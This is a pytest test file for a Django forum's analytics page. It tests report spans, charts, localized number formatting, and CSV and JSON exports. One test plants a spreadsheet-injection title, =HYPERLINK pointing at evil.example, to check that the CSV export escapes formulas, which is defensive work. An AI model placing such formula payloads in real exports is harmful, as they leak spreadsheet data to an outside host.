"""An owner's page of figures, and what he takes with him."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.conf import settings
from django.test import Client
from django.utils import timezone
from django.utils.translation import override

from voxpop.analytics import reading
from voxpop.analytics.plots import plots, worded
from voxpop.analytics.reading import Curve, Report, Span, read_report
from voxpop.analytics.rollups import Cell, MemoryRollups, Metric, Step, StoreAway
from voxpop.analytics.stored import rollups
from voxpop.threads.models import Thread
from voxpop.threads.tests.cast import Cast

pytestmark = pytest.mark.django_db


@pytest.fixture
def cast() -> Cast:
    return Cast()


@pytest.fixture
def owner(cast) -> Client:
    client = Client()
    user = cast.owner.author.user
    client.force_login(user, backend=settings.AUTHENTICATION_BACKENDS[0])
    return client


def path(cast, rest: str = "/") -> str:
    return f"/home/forums/{cast.forum.shortname}/figures{rest}"


def fill(cast) -> Thread:
    """A view and a comment just now, a decision after ten minutes; other forums have more."""
    thread = cast.comment("One.").thread
    now = Step.MINUTE.floor(timezone.now())
    forum = cast.forum.shortname
    rollups().put(
        [
            Cell(forum, Metric.VIEWS, now, 1234, source="one"),
            Cell(forum, Metric.VIEWS, now, 1, source="two"),
            Cell(forum, Metric.VIEWS_BY_THREAD, now, 1000, thread.public_id),
            Cell(forum, Metric.VIEWS_BY_THREAD, now, 99, "nosuchthread"),
            Cell(forum, Metric.COMMENTS_BY_THREAD, now, 7, thread.public_id),
            Cell(forum, Metric.READERS, now, 345),
            Cell(forum, Metric.REFERRALS, now, 4, "mastodon"),
            Cell(forum, Metric.REFERRALS, now, 2, "mail"),
            Cell(forum, Metric.REFERRALS_BY_THREAD, now, 5, thread.public_id),
            Cell(forum, Metric.ANSWERS, now, 2),
            Cell(forum, Metric.ANSWER_SECONDS, now, 1200),
            Cell("another", Metric.VIEWS, now, 77777),
        ]
    )
    return thread


def test_a_report_has_every_step_and_only_its_own_forums_figures(cast):
    thread = fill(cast)
    now = timezone.now()
    for span, steps in ((Span.HOUR, 60), (Span.DAY, 24), (Span.MONTH, 30), (Span.YEAR, 12)):
        report = read_report(cast.forum, span, now)
        assert len(report.begins) == len(set(report.begins)) == steps
        assert list(report.begins) == sorted(report.begins)
        assert report.begins[-1] <= now < report.until
        curves = {curve.name: curve for curve in report.curves}
        assert curves["views"].values[-1] == curves["views"].total == 1235
        assert curves["answer_seconds"].values[-1] == 600
        assert curves["answer_seconds"].values[0] is None
        (place,) = report.places
        assert (place.thread, place.views, place.comments) == (thread.public_id, 1000, 7)


def test_a_year_begins_with_months_also_at_the_end_of_a_long_one(cast):
    report = read_report(cast.forum, Span.YEAR, datetime(2026, 3, 31, 23, 59, tzinfo=UTC))
    assert [f"{begin:%m-%d}" for begin in report.begins] == [
        "04-01", "05-01", "06-01", "07-01", "08-01", "09-01",
        "10-01", "11-01", "12-01", "01-01", "02-01", "03-01",
    ]  # fmt: skip
    assert report.until == datetime(2026, 4, 1, tzinfo=UTC)


def test_reading_a_report_takes_as_many_queries_as_it_has_curves(cast, django_assert_num_queries):
    fill(cast)
    with django_assert_num_queries(13):
        read_report(cast.forum, Span.YEAR, timezone.now())


@pytest.mark.parametrize("span", list(Span))
def test_the_page_shows_bars_and_the_same_as_a_table(cast, owner, span):
    fill(cast)
    answer = owner.get(path(cast), {"span": span})
    text = answer.content.decode()
    assert answer.status_code == 200
    assert "1,235" in text
    assert '<p class="total">345</p>' in text
    assert "10 min" in text
    assert text.index(">Mastodon<") < text.index(">E-mail<")
    assert text.count('class="rule"') == text.count("<tbody") - 2 == 7
    assert text.count('class="bar-of"') == 4
    assert "<script" not in text.partition("<main")[2]


def test_a_page_with_nothing_says_so(cast, owner):
    assert "Nothing yet" in owner.get(path(cast)).content.decode()


def test_what_is_no_span_is_not_there(cast, owner):
    assert owner.get(path(cast), {"span": "decade"}).status_code == 404


def test_tables_hold_the_figures_and_no_formula(cast, owner):
    thread = fill(cast)
    Thread.objects.filter(id=thread.id).update(title='=HYPERLINK("https://evil.example/?"&A1)')
    answer = owner.get(path(cast, "/threads.csv"))
    _, row = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert row[0].startswith("'=")
    assert row[2:] == ["1000", "7", "5"]
    table = owner.get(path(cast, ".csv"), {"span": "hour"})
    head, *rows = csv.reader(io.StringIO(table.content.decode(), newline=""))
    assert head == [
        "minute",
        "views",
        "readers",
        "referrals",
        "comments",
        "votes",
        "decisions",
        "answer_seconds",
    ]
    assert len(rows) == 60
    assert rows[-1][1:] == ["1235", "345", "6", "0", "0", "0", "600"]
    assert rows[0][7] == ""
    assert "attachment" in table["Content-Disposition"]


def test_everything_as_json(cast, owner):
    thread = fill(cast)
    told = json.loads(owner.get(path(cast, ".json"), {"span": "year"}).content)
    assert told["totals"]["views"] == sum(told["curves"]["views"]) == 1235
    assert len(told["begins"]) == 12
    assert told["ways"] == {"mastodon": 4, "mail": 2}
    assert [each["thread"] for each in told["threads"]] == [thread.public_id]


def test_bars_stay_within_their_picture(cast):
    fill(cast)
    for plot in plots(read_report(cast.forum, Span.DAY, timezone.now())):
        for bar in plot.bars:
            assert 0 <= bar.y <= plot.height
            assert round(bar.y + bar.height, 1) == plot.height
            assert bar.x + plot.bar <= plot.width


@pytest.mark.parametrize(
    ("value", "is_duration", "words"),
    [
        (None, False, "–"), (0, False, "0"), (12345, False, "12,345"),
        (None, True, "–"), (0, True, "0 s"), (59, True, "59 s"), (90, True, "1.5 min"),
        (7200, True, "2 h"), (timedelta(days=3).total_seconds(), True, "3 d"),
    ],
)  # fmt: skip
def test_numbers_are_worded_for_people(value, is_duration, words):
    assert worded(value, is_duration) == words


def test_numbers_are_written_as_the_language_does():
    with override("de"):
        assert worded(12345, False) == "12.345"
        assert worded(90, True).startswith("1,5 ")


@pytest.mark.parametrize(
    ("language", "day", "month"),
    [
        ("en", "3 Sep", "Sep 2025"), ("de", "3. Sep", "Sep 2025"), ("es", "3 Sep", "Sep 2025"),
        ("hu", "Sze 3.", "2025. Sze"), ("eu", "Ira 3", "2025 Ira"), ("ja", "9月3日", "2025年9月"),
    ],
)  # fmt: skip
def test_under_a_picture_a_month_has_its_short_name_in_the_languages_order(language, day, month):
    begins = (datetime(2025, 9, 3, tzinfo=UTC),) * 5
    curves = (Curve("votes", (1,) * 5, 5),)
    for span, step, tick in ((Span.MONTH, Step.DAY, day), (Span.YEAR, Step.MONTH, month)):
        with override(language):
            (plot,) = plots(Report(span, step, begins, begins[-1], curves, ()))
        assert plot.ticks == (tick,) * 5


def test_where_the_store_is_away_the_page_says_so(cast, owner, monkeypatch):
    class Away(MemoryRollups):
        def read(self, *asked):
            raise StoreAway("it hangs")

    monkeypatch.setattr(reading, "rollups", Away)
    for rest in (".csv", ".json", "/threads.csv"):
        assert owner.get(path(cast, rest)).status_code == 503
    answer = owner.get(path(cast))
    assert answer.status_code == 503
    assert "cannot be read right now" in answer.content.decode()
